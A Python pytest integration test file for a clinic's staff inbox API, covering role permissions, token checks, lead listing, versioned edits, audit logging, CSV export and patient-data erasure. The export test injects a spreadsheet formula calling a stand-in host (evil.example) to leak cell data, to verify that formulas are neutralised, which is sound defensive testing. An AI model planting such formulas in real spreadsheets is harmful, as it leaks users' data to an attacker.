"""The staff inbox API through the handler the template names, with tokens from the template's
Cognito pool (in moto) as API Gateway's JWT authorizer passes their claims on."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from typing import Any

import boto3
import pytest
from boto3.dynamodb.types import TypeSerializer
from ulid import ULID

from clinic.leads.record import ERASED_ATTRIBUTES, StoredLead
from clinic_infra.template import StackTemplate
from tests import faults
from tests.helpers import http_event
from tests.integration.conftest import Call, Hooks, altcha_from, invoke, load_handler, notifier_event
from tests.staff import StaffUser, add_staff_user, authorizer_context

PATIENT = {
    "name": "Grace Hopper",
    "email": "Grace.Hopper@Example.org",
    "phone": "(415) 555-0142",
    "preferred_contact": "phone",
    "preferred_time": "morning",
    "concerns": ["anxiety", "ptsd"],
    "message": "Please call after nine.",
    "consent": True,
    "source": {"page": "/articles/ketamine/", "utm_source": "newsletter"},
}
PATIENT_VALUES = (
    "Grace Hopper",
    "Grace.Hopper",
    "Example.org",
    "example.org",
    "555-0142",
    "5550142",
    "Please call after nine",
    "/articles/ketamine/",
    "newsletter",
)


@pytest.fixture
def consultations(stack: StackTemplate, monkeypatch: pytest.MonkeyPatch) -> Any:
    return load_handler(stack, "ConsultationsFunction", monkeypatch, RATE_LIMIT_PER_WINDOW="1000")


Submit = Callable[..., str]


@pytest.fixture
def submit(consultations: Any) -> Submit:
    """A consultation request through the intake, proof of work solved (a new lead): its id."""

    def send(**changes: Any) -> str:
        body = json.dumps({**PATIENT, "altcha": altcha_from(consultations), **changes})
        event = http_event("POST", "/consultations", headers={"content-type": "application/json"}, body=body)
        response = invoke(consultations, event)
        assert response["statusCode"] == 201, response["body"]
        time.sleep(0.002)  # distinct milliseconds: ids (ULIDs) sort as the leads were made
        return str(json.loads(response["body"])["id"])

    return send


def _body(response: dict[str, Any]) -> Any:
    return json.loads(response["body"])


def _error(response: dict[str, Any]) -> str:
    return str(_body(response)["error"]["code"])


def _leads_item(stack: StackTemplate, lead_id: str) -> dict[str, Any]:
    from boto3.dynamodb.types import TypeDeserializer

    item = boto3.client("dynamodb").get_item(TableName=stack.refs["LeadsTable"], Key={"id": {"S": lead_id}})
    return {key: TypeDeserializer().deserialize(value) for key, value in item["Item"].items()}


def _audit_items(stack: StackTemplate) -> list[dict[str, Any]]:
    from boto3.dynamodb.types import TypeDeserializer

    items = boto3.client("dynamodb").scan(TableName=stack.refs["AuditTable"])["Items"]
    return [{key: TypeDeserializer().deserialize(value) for key, value in item.items()} for item in items]


def _events(stack: StackTemplate, action: str) -> list[dict[str, Any]]:
    return [item for item in _audit_items(stack) if item["action"] == action]


# ------------------------------------------------------------ who may do what

ROUTES = [
    ("GET", "/staff/leads/{lead}", {"staff", "admin"}),
    ("GET", "/staff/leads", {"staff", "admin"}),
    ("PATCH", "/staff/leads/{lead}", {"staff", "admin"}),
    ("DELETE", "/staff/leads/{lead}", {"admin"}),
    ("GET", "/staff/leads/{lead}/audit", {"admin"}),
    ("GET", "/staff/exports/leads.csv", {"admin"}),
    ("POST", "/staff/erasures", {"admin"}),
]


@pytest.mark.parametrize("who", ["staff", "admin", "nobody"])
@pytest.mark.parametrize(("method", "path", "allowed"), ROUTES, ids=[f"{m} {p}" for m, p, _ in ROUTES])
def test_each_route_answers_each_group_as_its_permissions_say(
    call: Call, submit: Submit, method: str, path: str, allowed: set[str], who: str
) -> None:
    lead = submit()
    bodies = {"PATCH": {"status": "contacted"}, "POST": {"email": PATIENT["email"]}}
    headers = {"if-match": '"0"'} if method == "PATCH" else None
    response = call(method, path.format(lead=lead), who, body=bodies.get(method), headers=headers)
    if who in allowed:
        assert response["statusCode"] in (200, 204), response["body"]
    else:
        assert response["statusCode"] == 403
        assert _error(response) == "forbidden"
        assert response["headers"]["Content-Type"] == "application/json"


@pytest.mark.parametrize(
    "claims_change",
    [
        {"token_use": "id"},
        {"client_id": "some-other-client"},
        {"sub": None},
        {"username": None},
    ],
    ids=["id token", "another app client", "no subject", "no username"],
)
def test_a_token_the_authorizer_lets_through_but_is_not_the_consoles_access_token_is_401(
    call: Call, users: dict[str, StaffUser], claims_change: dict[str, Any]
) -> None:
    claims = {
        key: value for key, value in {**users["admin"].claims, **claims_change}.items() if value is not None
    }
    response = call("GET", "/staff/leads", claims)
    assert response["statusCode"] == 401
    assert _error(response) == "unauthorized"


def test_an_id_token_as_api_gateway_passes_it_is_refused(call: Call, users: dict[str, StaffUser]) -> None:
    # An ID token's aud is the console's client id, so API Gateway's authorizer accepts it.
    from tests.staff import decode_unverified

    response = call("GET", "/staff/leads", decode_unverified(users["admin"].id_token))
    assert response["statusCode"] == 401


def test_groups_are_read_from_the_bracketed_string_api_gateway_passes(
    stack: StackTemplate, call: Call, submit: Submit
) -> None:
    cognito = boto3.client("cognito-idp")
    both = add_staff_user(
        cognito,
        stack.refs["StaffUserPool"],
        stack.refs["StaffConsoleClient"],
        "b@example-clinic.com",
        ["staff", "admin"],
    )
    lead = submit()
    event_claims = authorizer_context(both.claims)["jwt"]["claims"]
    assert event_claims["cognito:groups"] in ("[staff admin]", "[admin staff]")
    assert call("GET", f"/staff/leads/{lead}/audit", both.claims)["statusCode"] == 200


# ------------------------------------------------------------ the list


def test_the_list_is_newest_first_with_what_a_first_call_back_needs(call: Call, submit: Submit) -> None:
    first, second = submit(name="First Patient"), submit(name="Second Patient", preferred_contact="email")
    response = call("GET", "/staff/leads")
    assert response["statusCode"] == 200
    assert response["headers"]["Cache-Control"] == "no-store"
    items = _body(response)["items"]
    assert [item["id"] for item in items] == [second, first]
    assert items[0] == {
        "id": second,
        "reference": items[0]["reference"],
        "created_at": items[0]["created_at"],
        "status": "new",
        "name": "Second Patient",
        "preferred_contact": "email",
        "preferred_time": "morning",
        "quarantine_reason": None,
        "repeat_of": first,  # the same email address: the inbox says it is a repeat
    }
    assert "email" not in items[0]
    assert "message" not in items[0]


def test_pages_follow_the_cursor_across_statuses_without_gaps_or_repeats(call: Call, submit: Submit) -> None:
    ids = [submit() for _ in range(5)]
    changed = call(
        "PATCH", f"/staff/leads/{ids[2]}", body={"status": "contacted"}, headers={"if-match": '"0"'}
    )
    assert changed["statusCode"] == 200
    seen: list[str] = []
    cursor = None
    for _ in range(5):
        query = {"limit": "2", **({"cursor": cursor} if cursor else {})}
        page = _body(call("GET", "/staff/leads", query=query))
        seen += [item["id"] for item in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == list(reversed(ids))


def test_the_list_filters_by_status_and_dates(call: Call, submit: Submit) -> None:
    old, new = submit(), submit()
    call("PATCH", f"/staff/leads/{old}", body={"status": "contacted"}, headers={"if-match": '"0"'})
    contacted = _body(call("GET", "/staff/leads", query={"status": "contacted"}))["items"]
    assert [item["id"] for item in contacted] == [old]
    today = time.strftime("%Y-%m-%d", time.gmtime())
    assert {i["id"] for i in _body(call("GET", "/staff/leads", query={"since": today}))["items"]} == {
        old,
        new,
    }
    assert _body(call("GET", "/staff/leads", query={"until": "2020-01-01"}))["items"] == []
    bad = call("GET", "/staff/leads", query={"since": "2026-02-01", "until": "2026-01-01"})
    assert bad["statusCode"] == 422
    assert call("GET", "/staff/leads", query={"cursor": "not-a-cursor"})["statusCode"] == 422


@pytest.mark.parametrize("route", ["/staff/leads", "/staff/exports/leads.csv"])
def test_any_date_a_calendar_holds_is_a_range_not_a_server_error(
    call: Call, submit: Submit, route: str
) -> None:
    # Dates before 1970 or near the end of the calendar are outside what a ULID (a lead's id)
    # holds, or what a day after them can be: they are ranges with no lead before or after.
    lead = submit()
    for query, found in (
        ({"since": "0220-01-15", "until": "4223-04-17"}, True),
        ({"until": "9999-12-31"}, True),
        ({"since": "0001-01-01T00:00:00+14:00"}, True),
        ({"until": "1969-12-31"}, False),
        ({"since": "9999-12-31T23:59:59-14:00"}, False),
    ):
        response = call("GET", route, "admin", query=query)
        assert response["statusCode"] == 200, (query, response["body"])
        assert (lead in response["body"]) is found, query


@pytest.mark.parametrize("route", ["/staff/leads", "/staff/exports/leads.csv"])
@pytest.mark.parametrize("value", ["0.5", "1767225600", "2026-1-1"])
def test_a_range_is_dates_and_rfc3339_times_never_seconds_since_1970(
    call: Call, route: str, value: str
) -> None:
    response = call("GET", route, "admin", query={"until": value})
    assert response["statusCode"] == 422
    assert [problem["field"] for problem in _body(response)["error"]["fields"]] == ["until"]


@pytest.mark.parametrize("route", ["/staff/leads", "/staff/exports/leads.csv"])
def test_erased_is_not_a_status_to_list_or_export_by(call: Call, submit: Submit, route: str) -> None:
    # An erased lead keeps no name or contact details to show: asking for them is a 422, not a crash.
    lead = submit()
    assert call("DELETE", f"/staff/leads/{lead}", "admin")["statusCode"] == 204
    response = call("GET", route, "admin", query={"status": "erased"})
    assert response["statusCode"] == 422
    assert [problem["field"] for problem in _body(response)["error"]["fields"]] == ["status"]
    assert call("GET", route, "admin", query={"status": "new"})["statusCode"] == 200


def test_a_lead_past_its_retention_is_never_returned(
    stack: StackTemplate, call: Call, submit: Submit
) -> None:
    lead = submit()
    boto3.client("dynamodb").update_item(
        TableName=stack.refs["LeadsTable"],
        Key={"id": {"S": lead}},
        UpdateExpression="SET expires_at = :past",
        ExpressionAttributeValues={":past": {"N": str(int(time.time()) - 60)}},
    )
    assert _body(call("GET", "/staff/leads"))["items"] == []
    assert call("GET", f"/staff/leads/{lead}")["statusCode"] == 404
    assert (
        call("PATCH", f"/staff/leads/{lead}", body={"note": "x"}, headers={"if-match": '"0"'})["statusCode"]
        == 404
    )
    assert lead not in call("GET", "/staff/exports/leads.csv", "admin")["body"]


# ------------------------------------------------------------ one lead


def test_one_lead_in_full_with_its_version_as_etag_and_the_view_audited(
    stack: StackTemplate, call: Call, submit: Submit, users: dict[str, StaffUser]
) -> None:
    lead = submit()
    response = call("GET", f"/staff/leads/{lead}")
    assert response["statusCode"] == 200
    assert response["headers"]["ETag"] == '"0"'
    detail = _body(response)
    assert detail["email"] == "Grace.Hopper@example.org"
    assert detail["phone"] == "+14155550142"
    assert detail["concerns"] == ["anxiety", "ptsd"]
    assert detail["message"] == "Please call after nine."
    assert detail["consent"]["version"] == "2026-11-01"
    assert detail["source"]["page"] == "/articles/ketamine/"
    assert detail["notification"]["state"] == "pending"
    assert (detail["history"], detail["notes"], detail["assignee"]) == ([], [], None)
    (event,) = _events(stack, "lead.viewed")
    claims = users["staff"].claims
    assert (event["actor_sub"], event["actor_username"]) == (claims["sub"], "sam.staff@example-clinic.com")
    assert (event["lead_id"], event["outcome"]) == (lead, "success")
    assert event["request_id"]
    assert int(event["expires_at"]) > time.time() + 2190 * 86400


def test_an_unknown_or_malformed_id_is_404(call: Call) -> None:
    assert _error(call("GET", "/staff/leads/01JZ0000000000000000000000")) == "not_found"
    assert _error(call("GET", "/staff/leads/not-an-id")) == "not_found"


# ------------------------------------------------------------ changes


def test_a_change_needs_if_match_and_the_current_version(
    stack: StackTemplate, call: Call, submit: Submit
) -> None:
    lead = submit()
    missing = call("PATCH", f"/staff/leads/{lead}", body={"status": "contacted"})
    assert (missing["statusCode"], _error(missing)) == (428, "precondition_required")
    stale = call("PATCH", f"/staff/leads/{lead}", body={"status": "contacted"}, headers={"if-match": '"3"'})
    assert (stale["statusCode"], _error(stale)) == (412, "precondition_failed")
    assert _leads_item(stack, lead)["status"] == "new"
    done = call(
        "PATCH",
        f"/staff/leads/{lead}",
        body={"status": "contacted", "note": "Left a voicemail.", "assignee": "sam.staff@example-clinic.com"},
        headers={"if-match": '"0"'},
    )
    assert done["statusCode"] == 200, done["body"]
    assert done["headers"]["ETag"] == '"1"'
    detail = _body(done)
    assert detail["status"] == "contacted"
    assert [(h["status"], h["by"]) for h in detail["history"]] == [
        ("contacted", "sam.staff@example-clinic.com")
    ]
    assert [n["text"] for n in detail["notes"]] == ["Left a voicemail."]
    assert detail["assignee"] == "sam.staff@example-clinic.com"
    # The version read before that change is stale now: a second writer cannot overwrite it.
    again = call("PATCH", f"/staff/leads/{lead}", body={"assignee": None}, headers={"if-match": '"0"'})
    assert again["statusCode"] == 412
    unassigned = call("PATCH", f"/staff/leads/{lead}", body={"assignee": None}, headers={"if-match": 'W/"1"'})
    assert _body(unassigned)["assignee"] is None
    outcomes = sorted(event["outcome"] for event in _events(stack, "lead.updated"))
    assert outcomes == sorted(
        ["precondition_required", "precondition_failed", "success", "precondition_failed", "success"]
    )


def test_a_change_that_loses_a_race_is_412_and_changes_nothing(
    stack: StackTemplate, call: Call, submit: Submit, boto_hooks: Hooks
) -> None:
    lead = submit()
    faults.inject(
        boto_hooks, "dynamodb.TransactWriteItems", faults.cancelled("ConditionalCheckFailed", "None")
    )
    response = call("PATCH", f"/staff/leads/{lead}", body={"note": "x"}, headers={"if-match": '"0"'})
    assert response["statusCode"] == 412
    assert "notes" not in _leads_item(stack, lead)


@pytest.mark.parametrize(
    ("path", "to", "ok"),
    [
        (["contacted"], "scheduled", True),
        ([], "scheduled", False),
        ([], "completed", False),
        (["contacted", "scheduled"], "completed", True),
        (["contacted", "scheduled", "completed"], "contacted", True),
        (["spam"], "contacted", True),
        ([], "not_a_fit", True),
        (["contacted", "scheduled", "completed"], "spam", False),
        ([], "erased", False),
        ([], "quarantined", False),
    ],
)
def test_status_follows_the_clinics_workflow(
    call: Call, submit: Submit, path: list[str], to: str, ok: bool
) -> None:
    lead = submit()
    for version, status in enumerate(path):
        step = call(
            "PATCH", f"/staff/leads/{lead}", body={"status": status}, headers={"if-match": f'"{version}"'}
        )
        assert step["statusCode"] == 200, step["body"]
    response = call(
        "PATCH", f"/staff/leads/{lead}", body={"status": to}, headers={"if-match": f'"{len(path)}"'}
    )
    assert response["statusCode"] == (200 if ok else 422), response["body"]
    if not ok:
        assert _body(response)["error"]["fields"][0]["field"] == "status"


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ("{not json", 400),
        ({}, 422),
        ({"status": "bogus"}, 422),
        ({"note": "  "}, 422),
        ({"colour": "red"}, 422),
        ({"note": "x" * 2001}, 422),
    ],
)
def test_a_bad_change_body_is_a_4xx_that_does_not_echo_it(
    call: Call, submit: Submit, body: Any, status: int
) -> None:
    lead = submit()
    response = call("PATCH", f"/staff/leads/{lead}", body=body, headers={"if-match": '"0"'})
    assert response["statusCode"] == status
    assert "bogus" not in response["body"]
    assert "red" not in response["body"]


# ------------------------------------------------------------ audit


def test_a_failed_audit_write_fails_the_action(
    stack: StackTemplate, call: Call, submit: Submit, boto_hooks: Hooks
) -> None:
    lead = submit()
    faults.inject(boto_hooks, "dynamodb.PutItem", faults.aws_error("InternalServerError", 500))
    viewed = call("GET", f"/staff/leads/{lead}")
    assert (viewed["statusCode"], _error(viewed)) == (503, "service_unavailable")
    assert "Grace" not in viewed["body"]
    exported = call("GET", "/staff/exports/leads.csv", "admin")
    assert exported["statusCode"] == 503
    assert "Grace" not in exported["body"]


def test_a_change_is_written_with_its_audit_event_or_not_at_all(
    stack: StackTemplate, call: Call, submit: Submit, boto_hooks: Hooks
) -> None:
    lead = submit()
    faults.inject(boto_hooks, "dynamodb.TransactWriteItems", faults.aws_error("InternalServerError", 500))
    response = call(
        "PATCH", f"/staff/leads/{lead}", body={"status": "contacted"}, headers={"if-match": '"0"'}
    )
    assert response["statusCode"] == 503
    assert _leads_item(stack, lead)["status"] == "new"


def test_the_audit_trail_of_every_action_oldest_first(
    stack: StackTemplate, call: Call, submit: Submit, users: dict[str, StaffUser]
) -> None:
    lead = submit()
    call("GET", f"/staff/leads/{lead}")
    call("PATCH", f"/staff/leads/{lead}", body={"status": "contacted"}, headers={"if-match": '"0"'})
    call("DELETE", f"/staff/leads/{lead}", "staff")
    call("GET", "/staff/exports/leads.csv", "admin")
    call("DELETE", f"/staff/leads/{lead}", "admin")
    response = call("GET", f"/staff/leads/{lead}/audit", "admin")
    assert response["statusCode"] == 200
    trail = _body(response)["items"]
    assert [(e["action"], e["outcome"], e["actor"]["username"]) for e in trail] == [
        ("lead.viewed", "success", "sam.staff@example-clinic.com"),
        ("lead.updated", "success", "sam.staff@example-clinic.com"),
        ("lead.erased", "forbidden", "sam.staff@example-clinic.com"),
        ("leads.exported", "success", "ada.admin@example-clinic.com"),
        ("lead.erased", "success", "ada.admin@example-clinic.com"),
    ]
    assert all(e["lead_id"] == lead and e["request_id"] for e in trail)
    assert trail[0]["actor"]["sub"] == users["staff"].claims["sub"]
    # The export is in the trail of each lead it held, and in the exports' own, under one request.
    of_export, in_trail = sorted(_events(stack, "leads.exported"), key=lambda e: "lead_id" in e)
    assert (of_export["outcome"], of_export.get("lead_id")) == ("success", None)
    assert in_trail["request_id"] == of_export["request_id"]
    assert call("GET", f"/staff/leads/{lead}/audit", "staff")["statusCode"] == 403


# ------------------------------------------------------------ export


def test_the_export_is_utf8_csv_excel_opens_with_formulas_neutralised(
    stack: StackTemplate, call: Call, submit: Submit
) -> None:
    hostile = {
        "name": '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
        "message": "+1+1",
    }
    lead = submit(**hostile)
    item = _leads_item(stack, lead)
    # Cells a spreadsheet would run, as any stored text could begin.
    serializer = TypeSerializer()
    for prefix, value in {"-": "-2+3", "@": "@SUM(1,1)", "\t": "\t=1+1", "\r": "\r=1+1"}.items():
        stored = StoredLead.from_item(
            {**item, "id": str(ULID()), "message": value, "name": f"Zoë {prefix!r}"}
        )
        boto3.client("dynamodb").put_item(
            TableName=stack.refs["LeadsTable"],
            Item={name: serializer.serialize(value) for name, value in stored.to_item().items()},
        )
    response = call("GET", "/staff/exports/leads.csv", "admin")
    assert response["statusCode"] == 200
    assert response["headers"]["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["headers"]["Content-Disposition"]
    body = response["body"]
    assert body.startswith("\ufeff")  # Excel reads UTF-8 as UTF-8 only after a byte order mark
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))
    assert len(rows) == 5
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    by_id = {row["id"]: row for row in rows}
    assert by_id[lead]["name"] == "'" + hostile["name"]
    assert by_id[lead]["message"] == "'+1+1"
    assert by_id[lead]["phone"] == "'+14155550142"
    assert sorted(row["message"] for row in rows if row["id"] != lead) == sorted(
        ["'-2+3", "'@SUM(1,1)", "'\t=1+1", "'\r=1+1"]
    )
    assert any(row["name"].startswith("Zoë") for row in rows)


def test_the_export_covers_a_date_range(call: Call, submit: Submit) -> None:
    submit()
    today = time.strftime("%Y-%m-%d", time.gmtime())
    assert (
        len(call("GET", "/staff/exports/leads.csv", "admin", query={"since": today})["body"].splitlines())
        == 2
    )
    assert (
        len(
            call("GET", "/staff/exports/leads.csv", "admin", query={"until": "2020-01-01"})[
                "body"
            ].splitlines()
        )
        == 1
    )


# ------------------------------------------------------------ erasure


def _assert_erased(stack: StackTemplate, lead: str) -> None:
    item = _leads_item(stack, lead)
    assert item["status"] == "erased"
    assert not set(ERASED_ATTRIBUTES) & set(item)
    text = json.dumps(item, default=str)
    for value in PATIENT_VALUES:
        assert value not in text
    assert "notify_state" not in item


def test_erasing_a_lead_leaves_no_patient_value_in_the_table_or_the_audit_trail(
    stack: StackTemplate, call: Call, submit: Submit
) -> None:
    lead = submit()
    call(
        "PATCH",
        f"/staff/leads/{lead}",
        body={"note": "Grace said 555-0142 is best"},
        headers={"if-match": '"0"'},
    )
    response = call("DELETE", f"/staff/leads/{lead}", "admin")
    assert response["statusCode"] == 204
    _assert_erased(stack, lead)
    item = _leads_item(stack, lead)
    assert [entry["status"] for entry in item["history"]] == ["erased"]
    assert item["id"] == lead
    assert item["created_at"]
    assert call("GET", f"/staff/leads/{lead}")["statusCode"] == 404
    assert call("GET", "/staff/leads", "admin")["body"].count(lead) == 0
    assert call("DELETE", f"/staff/leads/{lead}", "admin")["statusCode"] == 204  # erased already
    audit = json.dumps(_audit_items(stack), default=str)
    for value in PATIENT_VALUES:
        assert value not in audit


def test_an_erased_lead_is_never_notified(
    stack: StackTemplate, call: Call, submit: Submit, monkeypatch: pytest.MonkeyPatch
) -> None:
    lead = submit()
    assert call("DELETE", f"/staff/leads/{lead}", "admin")["statusCode"] == 204
    notifier = load_handler(stack, "NotifierFunction", monkeypatch)
    assert invoke(notifier, notifier_event(stack)) == {"batchItemFailures": []}
    item = _leads_item(stack, lead)
    assert "notified_at" not in item
    assert not [name for name in item if name.startswith("notification_")]


def test_erasing_a_person_erases_every_lead_with_their_email_or_phone(
    stack: StackTemplate, call: Call, submit: Submit
) -> None:
    by_email = submit(phone=None, preferred_contact="email")
    by_phone = submit(email=None, preferred_contact="phone")
    both = submit()
    someone_else = submit(name="Other Person", email="other@example.net", phone="(415) 555-0199")
    response = call("POST", "/staff/erasures", "admin", body={"email": "grace.hopper@EXAMPLE.org"})
    assert (response["statusCode"], _body(response)) == (200, {"erased": 2})
    _assert_erased(stack, by_email)
    _assert_erased(stack, both)
    assert _leads_item(stack, by_phone)["status"] == "new"
    response = call("POST", "/staff/erasures", "admin", body={"phone": "+1 415 555 0142"})
    assert _body(response) == {"erased": 1}
    _assert_erased(stack, by_phone)
    assert _leads_item(stack, someone_else)["name"] == "Other Person"
    (first, second) = sorted(_events(stack, "person.erased"), key=lambda e: e["event_id"])
    assert first["outcome"] == second["outcome"] == "success"
    assert len(_events(stack, "lead.erased")) == 3
    audit = json.dumps(_audit_items(stack), default=str)
    for value in PATIENT_VALUES:
        assert value not in audit


@pytest.mark.parametrize(
    "body", [{}, {"email": "not an email"}, {"phone": "12"}, {"email": "a@b.co", "x": 1}]
)
def test_an_erasure_request_without_a_valid_email_or_phone_is_422(call: Call, body: dict[str, Any]) -> None:
    response = call("POST", "/staff/erasures", "admin", body=body)
    assert response["statusCode"] == 422
    assert "not an email" not in response["body"]


def test_intake_keeps_keyed_hashes_of_the_contact_details_never_plain_digests(
    stack: StackTemplate, submit: Submit
) -> None:
    import hashlib

    item = _leads_item(stack, submit())
    assert len(item["email_hash"]) == len(item["phone_hash"]) == 64
    assert item["email_hash"] != hashlib.sha256(b"email:grace.hopper@example.org").hexdigest()
